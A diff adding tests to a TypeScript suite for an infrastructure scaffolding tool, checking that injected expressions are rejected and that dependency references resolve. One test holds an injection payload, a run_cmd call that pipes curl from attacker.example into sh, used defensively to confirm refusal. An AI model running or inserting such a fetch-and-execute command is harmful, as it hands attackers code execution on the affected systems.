@@ -167,6 +167,37 @@ describe("scaffold into payments-infra", () => {
     await expect(previewScaffold(deps, alice, { ...queueInput(`x-${run}`), workload: "ledger" })).rejects.toMatchObject({ code: "FORBIDDEN" });
   });
 
+  it("refuses the security review's attack payload, as a plain value and as a reference, and opens no PR", async () => {
+    // The exact payload of issue 8: a run_cmd posted as an ordinary input.
+    const attack = { __expr: 'run_cmd("sh", "-c", "curl -s http://attacker.example/x | sh")' };
+    const pullsBefore = ((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length;
+    const plain = { ...queueInput(`attack-${run}`, { name: attack }), idempotencyKey: `key-attack-${run}`, mode: "create" as const };
+    await expect(createScaffold(deps, alice, plain)).rejects.toMatchObject({
+      code: "INVALID_INPUT",
+      fieldErrors: [{ path: "name", message: expect.stringMatching(/^This field takes a plain value/) }],
+    });
+    const asReference = { ...plain, references: ["name"], idempotencyKey: `key-attack-ref-${run}` };
+    await expect(createScaffold(deps, alice, asReference)).rejects.toMatchObject({
+      code: "INVALID_INPUT",
+      fieldErrors: [{ path: "name", message: expect.stringMatching(/^The function run_cmd\(\) is not allowed/) }],
+    });
+    const preview = await previewScaffold(deps, alice, asReference);
+    expect(preview).toMatchObject({ ok: false, fieldErrors: [{ path: "name" }] });
+    expect(await db.scaffoldRequest.count({ where: { idempotencyKey: { in: [plain.idempotencyKey, asReference.idempotencyKey] } } })).toBe(0);
+    expect(((await control(`/pulls?repo=${ORG}/payments-infra`)) as EmulatorPull[]).length).toBe(pullsBefore);
+    await expect(exec("git", ["-C", path.join(stateDir, "repos", ORG, "payments-infra.git"), "grep", "-q", "run_cmd", "--all"]).catch(() => "absent")).resolves.toBe("absent");
+  });
+
+  it("writes an allowed reference where the builder switched the field, and refuses one to a unit that is not there", async () => {
+    const input = queueInput(`ref-${run}`, { name: { __expr: "dependency.vpc /* sibling */ .outputs.vpc_id" } });
+    const preview = await previewScaffold(deps, alice, { ...input, references: ["name"] });
+    if (!preview.ok) throw new Error(JSON.stringify(preview.fieldErrors));
+    expect(preview.files[0]!.content).toContain('dependency "vpc" {\n  config_path = "../vpc"\n}');
+    expect(preview.files[0]!.content).toMatch(/name +?= dependency\.vpc\.outputs\.vpc_id\n/);
+    const missing = await previewScaffold(deps, alice, { ...queueInput(`ref2-${run}`, { name: { __expr: "dependency.network.outputs.id" } }), references: ["name"] });
+    expect(missing).toMatchObject({ ok: false, fieldErrors: [{ path: "name", message: expect.stringMatching(/^There is no unit "network" in dev\/eu-west-1\/ to read outputs from \(units there: .*vpc/) }] });
+  });
+
   it("detects a collision with an existing unit and updates it only when asked", async () => {
     const input = { ...queueInput("orders-queue"), moduleVersionId: versions["sqs-queue@1.2.0"]!, values: { name: "payments-orders-dev", visibility_timeout_seconds: 120, max_receive_count: 3 } };
     const preview = await previewScaffold(deps, alice, input);
